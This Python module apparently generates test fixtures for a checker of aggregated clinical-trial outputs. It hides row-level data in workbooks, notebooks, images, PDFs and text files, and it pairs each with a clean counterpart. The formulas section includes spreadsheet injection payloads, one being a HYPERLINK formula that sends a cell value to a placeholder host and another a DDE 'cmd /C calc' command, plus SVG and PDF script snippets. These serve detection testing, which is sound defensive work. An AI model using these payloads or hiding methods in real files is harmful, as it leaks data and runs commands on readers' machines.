"""Aggregated results whose files carry more than a reader sees, and the same files without it."""

from __future__ import annotations

import base64
import gzip
import io
import json
import pickle
import zipfile
from collections.abc import Iterator

import pandas as pd
import pikepdf
import pyarrow as pa
import pyarrow.parquet as pq
from openpyxl.comments import Comment
from PIL import Image, PngImagePlugin

from .case import Case
from .tables import adam, lifelines_set
from .writing import (
    EPOCH,
    as_csv,
    as_markdown,
    as_xlsx,
    book,
    figure,
    notebook,
    page,
    pdf_again,
    png_notebook,
    rezip,
    shown,
)

__all__ = ["hiding"]

HIDDEN, TYPE, FORMULA = frozenset({"hidden-content"}), frozenset({"file-type"}), frozenset({"formula"})
TOO = frozenset({"row-level", "small-count", "identifier", "extreme", "class-disclosure"})


def arms() -> pd.DataFrame:
    """Return people by arm: nothing wrong with it."""
    return adam("adsl").groupby("ARM").size().reset_index(name="n")


def raw() -> pd.DataFrame:
    """Return the rows that are hidden."""
    return adam("adsl")[["AGE", "SEX", "WEIGHTBL", "HEIGHTBL", "EDUCLVL"]].head(120)


def held(name: str, file: str, content: bytes, expected: frozenset[str] = HIDDEN) -> Case:
    """Return a case that hides something."""
    return Case(
        name=name,
        files={file: content},
        expected=expected,
        acceptable=TOO | HIDDEN,
        source="cdisc",
        against=("adam/adsl",),
    )


def fair(name: str, file: str, content: bytes) -> Case:
    """Return the same kind of file that hides nothing."""
    return Case(name=name, files={file: content}, source="cdisc", against=("adam/adsl",))


def workbooks() -> Iterator[Case]:
    """Hidden parts of workbooks."""
    for state in ("hidden", "veryHidden"):

        def hide(workbook, state=state):
            workbook["Data"].sheet_state = state

        yield held(f"sheet-{state}", "t.xlsx", book({"Table": arms(), "Data": raw()}, hide))

    def comment(workbook):
        workbook.active["B2"].comment = Comment("01-701-1015, 63, F, 54.4 kg", "analyst")

    def column(workbook):
        workbook.active.column_dimensions["B"].hidden = True

    def lines(workbook):
        for number in range(5, 60):
            workbook.active.row_dimensions[number].hidden = True

    def white(workbook):
        for number, value in enumerate(raw()["WEIGHTBL"], 1):
            cell = workbook.active.cell(number, 40, float(value))
            cell.number_format = ";;;"

    yield held("cell-comment", "t.xlsx", book({"Table": arms()}, comment))
    wide = arms().assign(detail=["63,64,71,74", "77,85,59", "68,81,84"])[["ARM", "detail", "n"]]
    yield held("hidden-column", "t.xlsx", book({"Table": wide}, column))
    yield held("hidden-rows", "t.xlsx", book({"Table": raw()}, lines), HIDDEN | {"row-level"})
    yield held("far-off-cells", "t.xlsx", book({"Table": arms()}, white), HIDDEN | {"row-level"})
    cache = (
        b"<?xml version='1.0'?><pivotCacheRecords xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
        + b"".join(f"<r><n v='{r.AGE}'/><n v='{r.WEIGHTBL}'/></r>".encode() for r in raw().itertuples())
        + b"</pivotCacheRecords>"
    )
    yield held("pivot-cache", "t.xlsx", rezip_with(as_xlsx(arms()), "xl/pivotCache/pivotCacheRecords1.xml", cache))
    props = b"<?xml version='1.0'?><Properties>" + base64.b64encode(as_csv(raw())) + b"</Properties>"
    yield held("custom-properties", "t.xlsx", rezip_with(as_xlsx(arms()), "docProps/custom.xml", props))
    yield held("extra-part", "t.xlsx", rezip_with(as_xlsx(arms()), "xl/media/data.bin", as_csv(raw())))
    yield fair("workbook-plain", "t.xlsx", as_xlsx(arms()))

    def styled(workbook):
        workbook.active.column_dimensions["A"].width = 40
        workbook.active.freeze_panes = "A2"

    yield fair("workbook-styled", "t.xlsx", book({"Table": arms()}, styled))


def rezip_with(content: bytes, part: str, data: bytes) -> bytes:
    """Return a zip container with one part more."""
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(part, EPOCH), data)
    return rezip(out.getvalue())


def notebooks() -> Iterator[Case]:
    """What notebooks keep out of sight."""
    table = {"source": "table", "outputs": [shown(arms())]}
    yield fair(
        "notebook-plain", "n.ipynb", notebook([table], {"kernelspec": {"name": "python3", "display_name": "Python 3"}})
    )
    attached = {"raw.csv": {"text/csv": base64.b64encode(as_csv(raw())).decode()}}
    yield held(
        "attachment",
        "n.ipynb",
        notebook([table, {"cell_type": "markdown", "source": "Notes", "attachments": attached}]),
    )
    stored = {
        "metadata": {"cache": base64.b64encode(as_csv(raw())).decode()},
        "source": "table",
        "outputs": [shown(arms())],
    }
    yield held("cell-metadata", "n.ipynb", notebook([stored]))
    widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": {"a": {"state": {"data": raw().to_numpy().tolist()}}}}
    }
    yield held("widget-state", "n.ipynb", notebook([table], {"widgets": widgets}))
    bundle = {
        "text/plain": "<Figure>",
        "application/vnd.vega.v5+json": {"data": [{"values": raw().to_dict("records")}]},
    }
    vega = {"output_type": "display_data", "metadata": {}, "data": bundle}
    yield held("vega-data", "n.ipynb", notebook([{"source": "chart", "outputs": [vega]}]), HIDDEN | {"row-level"})
    script = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": f"<b>done</b><script>var d={raw().head(30).to_json(orient='values')}</script>"},
    }
    yield held("script-output", "n.ipynb", notebook([{"source": "show()", "outputs": [script]}]))
    error = {
        "output_type": "error",
        "ename": "KeyError",
        "evalue": "'01-701-1015'",
        "traceback": [f"KeyError: {row}" for row in raw().head(12).to_string().splitlines()],
    }
    yield held("traceback-rows", "n.ipynb", notebook([{"source": "fit()", "outputs": [error]}]), HIDDEN | {"row-level"})
    bars = figure(lambda axes: axes.bar(arms()["ARM"], arms()["n"]), "png")
    yield fair("notebook-picture", "n.ipynb", png_notebook(bars))


def pictures() -> Iterator[Case]:
    """What pictures and pages carry beside what they show."""
    bars = {
        kind: figure(lambda axes: axes.bar(arms()["ARM"], arms()["n"]), kind) for kind in ("png", "svg", "pdf", "jpg")
    }
    for kind, content in bars.items():
        yield fair(f"bars-{kind}", f"bars.{kind}", content)
    data = as_csv(raw())
    yield held("png-trailing", "bars.png", bars["png"] + data)
    zipped = rezip_with(as_xlsx(arms()), "raw.csv", data)
    yield held("png-with-zip", "bars.png", bars["png"] + zipped)
    yield held("jpg-trailing", "bars.jpg", bars["jpg"] + data)
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", data.decode())
    out = io.BytesIO()
    Image.open(io.BytesIO(bars["png"])).save(out, "png", pnginfo=info)
    yield held("png-text", "bars.png", out.getvalue())
    exif = Image.Exif()
    exif[0x9286] = data.decode()[:20000]
    exif[0x010E] = data.decode()[:20000]
    out = io.BytesIO()
    Image.open(io.BytesIO(bars["jpg"])).save(out, "jpeg", exif=exif)
    yield held("jpg-exif", "bars.jpg", out.getvalue())
    svg = bars["svg"].decode()
    yield held(
        "svg-metadata", "bars.svg", svg.replace("</svg>", f"<metadata>{data.decode()}</metadata></svg>").encode()
    )
    yield held("svg-desc", "bars.svg", svg.replace("</svg>", f"<desc>{data.decode()}</desc></svg>").encode())
    yield held("svg-script", "bars.svg", svg.replace("</svg>", "<script>fetch('/')</script></svg>").encode())
    unseen = f"<text x='-9000' y='0' style='display:none'>{' '.join(map(str, raw()['WEIGHTBL']))}</text></svg>"
    yield held("svg-unseen-text", "bars.svg", svg.replace("</svg>", unseen).encode(), HIDDEN | {"row-level"})
    yield held("svg-comment", "bars.svg", svg.replace("</svg>", f"<!-- {data.decode()} --></svg>").encode())

    def attach(pdf):
        pdf.attachments["raw.csv"] = pikepdf.AttachedFileSpec(
            pdf, data, mime_type="text/csv", creation_date="", mod_date=""
        )

    def script(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    def information(pdf):
        pdf.docinfo["/Data"] = data.decode()

    yield held("pdf-attachment", "bars.pdf", pdf_again(bars["pdf"], attach))
    yield held("pdf-script", "bars.pdf", pdf_again(bars["pdf"], script))
    yield held("pdf-information", "bars.pdf", pdf_again(bars["pdf"], information))
    yield held("pdf-trailing", "bars.pdf", bars["pdf"] + data)


def texts() -> Iterator[Case]:
    """What pages, tables and other files carry beside what they show."""
    data, clean = as_csv(raw()).decode(), page("People by arm", arms())
    yield fair("report-plain", "r.html", clean)
    yield fair("report-styled", "r.html", page("People by arm", arms(), head="<style>td{padding:4px}</style>"))
    yield held("html-comment", "r.html", clean.replace(b"</body>", f"<!-- {data} --></body>".encode()))
    yield held(
        "html-hidden-table",
        "r.html",
        clean.replace(b"</body>", f"<div style='display:none'>{raw().to_html()}</div></body>".encode()),
        HIDDEN | {"row-level"},
    )
    yield held(
        "html-script", "r.html", clean.replace(b"</body>", f"<script>d={json.dumps(data)}</script></body>".encode())
    )
    link = base64.b64encode(data.encode()).decode()
    yield held(
        "html-data-link",
        "r.html",
        clean.replace(b"</body>", f"<a href='data:text/csv;base64,{link}'>.</a></body>".encode()),
    )
    yield held("markdown-comment", "r.md", as_markdown(arms()) + f"\n<!--\n{data}\n-->\n".encode())
    yield fair("markdown-plain", "r.md", as_markdown(arms()))
    table = pa.Table.from_pandas(arms(), preserve_index=False)
    out = io.BytesIO()
    pq.write_table(table.replace_schema_metadata({"notes": data}), out)
    yield held("parquet-metadata", "t.parquet", out.getvalue())
    out = io.BytesIO()
    pq.write_table(table.replace_schema_metadata(None), out)
    yield fair("parquet-plain", "t.parquet", out.getvalue())
    yield held("csv-with-zip", "t.csv", as_csv(arms()) + rezip(as_xlsx(raw())))
    yield held("csv-right-to-left", "t.csv", as_csv(arms().assign(ARM=["Pla\u202ecebo", "High", "Low"])))
    bits = "".join("\u200b" if bit == "1" else "\u200c" for byte in data[:400].encode() for bit in f"{byte:08b}")
    yield held("zero-width", "r.txt", f"People by arm{bits}: 86, 84 and 84.\n".encode())
    yield held("csv-nul", "t.csv", as_csv(arms()) + b"\x00" * 40 + data.encode())
    yield held(
        "base64-in-json",
        "t.json",
        json.dumps({"n": 254, "blob": base64.b64encode(gzip.compress(data.encode(), mtime=0)).decode()}).encode(),
    )
    yield held("pickle", "model.pkl", pickle.dumps(raw().to_dict("list")), TYPE)
    yield held("pickle-renamed", "model.csv", pickle.dumps(raw().to_dict("list")), TYPE)
    yield held("gzip-renamed", "table.txt", gzip.compress(data.encode(), mtime=0), TYPE)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr(zipfile.ZipInfo("raw.csv", EPOCH), data)
    yield held("zip", "outputs.zip", archive.getvalue(), TYPE)
    yield held("zip-renamed", "outputs.xlsx", archive.getvalue(), TYPE)
    yield held(
        "sqlite", "results.csv", b"SQLite format 3\x00" + b"\x10\x00\x01\x01\x00@  " + bytes(4000) + data.encode(), TYPE
    )


def formulas() -> Iterator[Case]:
    """Cells that a spreadsheet would run, and negative numbers that it would not."""
    run = arms().assign(note=['=HYPERLINK("http://x.example/"&A2)', "ok", "ok"])
    yield Case(name="formula-link", files={"t.csv": as_csv(run)}, expected=FORMULA, acceptable=HIDDEN, source="cdisc")
    run = arms().assign(note=["@SUM(1+1)*cmd|' /C calc'!A0", "ok", "ok"])
    yield Case(
        name="formula-command", files={"t.csv": as_csv(run)}, expected=FORMULA, acceptable=HIDDEN, source="cdisc"
    )
    signed = lifelines_set("rossi").corr().round(3).rename_axis("variable").reset_index()
    yield Case(name="negative-numbers", files={"corr.csv": as_csv(signed)}, source="rossi")
    changes = pd.DataFrame(
        {"term": ["age", "dose"], "change": ["-1.2%", "+3.4%"], "interval": ["-2.0 to -0.4", "+1.1 to +5.7"]}
    )
    yield Case(name="signed-text", files={"changes.csv": as_csv(changes)}, source="invented")


def hiding() -> Iterator[Case]:
    """Every case of this module."""
    yield from workbooks()
    yield from notebooks()
    yield from pictures()
    yield from texts()
    yield from formulas()
